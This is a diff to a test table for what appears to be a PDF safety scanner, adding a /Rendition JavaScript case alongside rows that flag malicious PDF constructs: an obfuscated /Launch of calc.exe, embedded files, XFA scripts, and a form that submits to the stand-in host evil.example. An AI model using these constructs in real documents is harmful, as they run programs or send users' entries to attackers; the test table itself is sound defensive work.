@@ -32,6 +32,7 @@ test.each([
   ['<< /S /#4caunch /F (calc.exe) >>', 'starts a program'],
   ['<< /Type /EmbeddedFile >>', 'has other files in it'],
   ['<< /Subtype /RichMedia >>', 'contains media that can run a program'],
+  ['<< /S /Rendition /JS (x) >>', 'contains media that can run a program'],
   ['<< /S /SubmitForm /F (https://evil.example) >>', 'sends what people enter to another computer'],
   ['<< /AcroForm << /XFA [(template) 8 0 R] >> >>', 'is a form that can run scripts'],
   ['<< /Encrypt 5 0 R >>', 'is protected with a password or restrictions'],
